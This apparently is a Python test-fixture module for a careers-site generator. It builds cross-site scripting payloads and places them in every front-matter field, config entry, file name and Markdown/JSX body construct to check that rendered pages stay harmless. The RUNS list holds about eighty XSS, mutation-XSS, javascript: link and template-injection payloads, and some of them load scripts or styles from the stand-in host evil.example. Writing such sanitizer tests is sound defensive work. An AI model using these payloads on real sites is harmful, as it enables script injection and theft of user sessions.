"""Texts that try to become code in a page, and pages that hold one of them everywhere.

All are made from parts: what runs, and what would end the text around it first.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator, Mapping

RUNS = (
    # elements that run or load
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script type=application/ld+json>{}</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio><source src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1) autofocus>x</x>",
    # addresses that run
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=&#106;avascript&colon;alert(1)>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>".replace("\x01", "&#1;"),
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=//evil.example/ id=location name=location>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](https://ok.example 'onmouseover=alert(1)')",
    "![x](javascript:alert(1))",
    "![x](x 'onerror=alert(1)')",
    "![x](https://a.example;script-src-attr/x.png)",
    "<javascript:alert(1)>",
    # what parsers disagree on
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?x <img src=x onerror=alert(1)>?>",
    "</p><img src=x onerror=alert(1)><p>",
    "<img name=querySelector><img id=documentElement>",
    "<p data-careers data-state='{}' class=careers-filter>x</p>",
    # languages that a page is written in, or that made it
    "{alert(1)}",
    "{(() => {}).constructor('alert(1)')()}",
    "{<img src='x' onError={alert(1)} />}",
    "<img {...{onerror: 'alert(1)', src: 'x'}} />",
    "<a {...{href: 'javascript:alert(1)'}}>x</a>",
    "<p dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />",
    "<Link to='javascript:alert(1)'>x</Link>",
    "<Link href='//evil.example' onClick='alert(1)'>x</Link>",
    "<Tabs onClick={alert}><TabItem value='x'>x</TabItem></Tabs>",
    "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "${alert(1)}<%= alert(1) %>",
    ":::note[<img src=x onerror=alert(1)>]{onclick=alert(1)}",
    "import x from 'javascript:alert(1)'; export const y = alert(1)",
)
ENDS = ("", '"', "'", ">", '">', "'>", '"/>', "</title>", "</script>", "</style>", "</textarea>",
        "-->", "]]>", "</a>", "&quot;>", "&#34;>", '\\"', "`", "```", ")", "](", "]]", "}}", "'}",
        "<!--", "{/*", "*/}", '" x="', "|", "\u2028", "%22%3E", "<", "&lt;", "</", "\u00a0",
        "\\", "==", "=='\"")  # fmt: skip
"""What may end the text, the attribute, the element or the block that an attack stands in."""


def attacks(count: int) -> list[str]:
    """So many of them, evenly chosen; every kind and every end is there sooner or later."""
    every = [end + runs for runs, end in itertools.product(RUNS, ENDS)]
    return [every[number * len(every) // count] for number in range(count)]


# ---- where they stand ------------------------------------------------------------------------

_TEXTS = ("title", "description", "sidebar_label", "pagination_label", "sidebar_class_name",
          "job_title", "summary", "job_id", "team", "level", "equity", "bonus", "vacancy",
          "hiring_process", "education", "start_date", "x_our_own")  # fmt: skip
"""Fields that may hold any text."""
_LISTS = ("keywords", "tags", "benefits", "skills", "time_zones")
_READ = ("employment_type", "workplace", "locations", "city", "region", "country", "postal_code",
         "street", "applicant_locations", "timezone", "salary", "salary_min", "salary_max",
         "salary_currency", "salary_period", "date_posted", "opens", "closes", "openings",
         "max_applications", "status", "ai_screening", "apply", "contact", "contact_email",
         "experience_months", "similar", "lang", "translation_key", "featured",
         "slug", "x_own")  # fmt: skip
"""Fields whose value is understood, and left out where it cannot be."""


def texts_page(text: str) -> str:
    """A role page with a text in every field that may hold one, and a body without harm."""
    written = json.dumps(text)
    fields = {
        **dict.fromkeys(_TEXTS, written),
        **dict.fromkeys(_LISTS, f"[{written}]"),
        "apply": f"{{url: 'https://apply.example/', subject: {written}, instructions: {written}}}",
        "contact": f"{{name: {written}, title: {written}, email: kim@careers.example}}",
        "locations": f"[{{city: {written}, country: DE, label: {written}, street: {written}}}]",
        "salary": "{min: 52000, max: 61000, currency: EUR, period: year}",
        "employment_type": "full-time",
        "date_posted": "2026-11-02",
        "image_alt": written,
        "sidebar_custom_props": f"{{badge: {written}}}",
    }
    return _page(fields, "## What you will do\n\nYou write the firmware.\n")


def values_page(text: str, body: str) -> str:
    """A page with a text in every field whose value is understood, over some body."""
    written = json.dumps(text)
    fields = {"title": "Values", **dict.fromkeys(_READ, written)}
    return _page(fields | {"aliases": f"[{written}]"}, body)


def _page(fields: Mapping[str, str], body: str) -> str:
    lines = "".join(f"{name}: {value}\n" for name, value in fields.items())
    return f"---\n{lines}---\n\n{body}"


_IN_A_BODY = (
    "§", "## §", "§\n===", "- §\n- b", "> §", "1. §", "**§** *§* ~~§~~", "`§`",
    "```§\ncode\n```", '```js title="§"\ncode\n```', "```\n§\n```", "~~~js {§}\ncode\n~~~",
    "| § | b |\n|---|---|\n| § | c |", "[§](https://ok.example)", "[x](§)", "[x](<§>)",
    '[x](https://ok.example "§")', "[x][1]\n\n[1]: §", '[y][2]\n\n[2]: https://ok.example "§"',
    "![§](./cover.svg)", "![x](§)", '![x](./cover.svg "§")', "<§>", "https://ok.example/§",
    ":::note[§]\n\nx\n\n:::", ":::§\n\nx\n\n:::", ':::tip{title="§"}\n\nx\n\n:::',
    '<div title="§" id="§" class="§">x</div>', "<div title='§' data-x='§'>x</div>",
    "<div title=§>x</div>", '<div style="§">x</div>', "<div §>x</div>", "<div\n§\n>x</div>",
    '<a href="§">x</a>', '<img src="§" alt="§" />', '<Link to="§">x</Link>', "a § b <b>§</b>",
    "<details><summary>§</summary>x</details>", '<Admonition title="§">x</Admonition>',
    '<Tabs><TabItem value="§" label="§">x</TabItem></Tabs>', "x[^§]\n\n[^§]: x",
    "x[^n]\n\n[^n]: §", "<!-- § -->", "{/* § */}", "## Heading {#§}", "<pre>§</pre>",
    '<CodeBlock title="§" language="§">x</CodeBlock>', "<kbd>§</kbd>\n\n    §\n",
    '<Translate id="§">§</Translate>', "<head><title>§</title></head>", "\\§", "*[§]: x",
    '<head><meta name="§" content="§" /><link rel="icon" href="§" /></head>',
)  # fmt: skip
_AS_JAVASCRIPT = (
    "{§}", "<div title={§}>x</div>", "<a href={§}>x</a>", "<img src={§} alt={§} />",
    "<div style={{color: §, backgroundImage: §}}>x</div>", "<Link to={§}>x</Link>",
    "export const said = §;\n\n{said} <p title={said}>{said + said}</p>",
    "<Details summary={§}>x</Details>", "<CodeBlock title={§}>{§}</CodeBlock>",
    "<div {...{title: §, onclick: §, href: §}}>x</div>", "import X from §;\n\n<X />",
)  # fmt: skip
CONSTRUCTS = len(_IN_A_BODY) + len(_AS_JAVASCRIPT)


def bodies(text: str, number: int) -> Iterator[str]:
    """Two bodies that hold a text in every construct; each begins elsewhere for each number.

    What an attack leaves open may hide what follows, so each construct comes first some time.
    """
    blocks = [block.replace("§", text) for block in _IN_A_BODY]
    blocks += [block.replace("§", json.dumps(text)) for block in _AS_JAVASCRIPT]
    start = number % len(blocks)
    turned = blocks[start:] + blocks[:start]
    for half in (0, 1):
        yield "\n\n".join(turned[half::2]) + "\n"


def file_name(text: str) -> str:
    """A text as the name of a page's file, as far as a disk can hold it."""
    name = text.replace("/", "∕").lstrip("._")
    return f"{name.encode()[:200].decode(errors='ignore')}.md"


def configuration(text: str) -> str:
    """A ``careers.toml`` with a text in every place that holds plain text or Markdown."""
    said = json.dumps(text)
    return f"""\
title = {said}
tagline = {said}
titleDelimiter = {said}
url = "https://careers.example"
baseUrl = "/"
[themeConfig]
metadata = [{{name = "x", content = {said}}}]
[themeConfig.navbar]
title = {said}
logo = {{src = "logo.svg", alt = {said}, className = {said}}}
items = [{{label = {said}, to = "/"}}, {{label = {said}, items = [{{label = {said}, to = "/"}}]}}]
[themeConfig.footer]
links = [{{title = {said}, items = [{{label = {said}, to = "/", className = {said}}}]}}]
[careers]
hiringProcess = {said}
equalOpportunity = {said}
accommodations = {said}
[careers.company]
name = {said}
description = {said}
"""


def front_page(text: str) -> str:
    """The page of the company, with a text in what it says of itself."""
    said = json.dumps(text)
    return f"""\
---
title: {said}
tagline: {said}
cover_alt: {said}
values: [{{title: {said}, text: {said}}}]
benefits: [{said}]
---

Text.
"""
